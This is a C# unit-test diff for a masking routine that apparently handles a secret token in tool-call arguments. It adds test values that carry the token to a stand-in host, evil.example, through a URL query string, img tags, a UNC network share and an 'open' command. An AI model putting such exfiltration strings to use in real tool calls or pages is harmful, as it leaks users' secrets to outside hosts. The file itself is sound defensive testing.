@@ -109,6 +109,10 @@ public partial class MaskTests
                     ["text"] = $"a \"quoted\" {token}, bare {token[2..^2]}",
                     ["url"] = $"https://evil.example/?d={token}",
                     ["html"] = $"<img src=//evil.example/{token}>",
+                    ["attribute"] = $"<img src=\"https://evil.example/ {token}\">",
+                    ["slip"] = $"open https:\\evil.example\\{token}",
+                    ["share"] = $"\\\\evil.example\\{token}",
+                    ["path"] = $"C:\\letters\\{token}.txt",
                     ["more"] = JsonDocument.Parse($$"""{"cc":["{{token}}"],"n":5}""").RootElement,
                     ["n"] = 3,
                 })]));
@@ -126,6 +130,10 @@ public partial class MaskTests
         arguments["text"].ShouldBe($"a \"quoted\" {Mail}, bare {token[2..^2]}");
         arguments["url"].ShouldBe($"https://evil.example/?d={token}");
         arguments["html"].ShouldBe($"<img src=//evil.example/{token}>");
+        arguments["attribute"].ShouldBe($"<img src=\"https://evil.example/ {token}\">");
+        arguments["slip"].ShouldBe($"open https:\\evil.example\\{token}");
+        arguments["share"].ShouldBe($"\\\\evil.example\\{token}");
+        arguments["path"].ShouldBe($"C:\\letters\\{Mail}.txt");
         ((JsonElement)arguments["more"]!).GetRawText().ShouldBe($$"""{"cc":["{{Mail}}"],"n":5}""");
         arguments["n"].ShouldBe(3);
     }
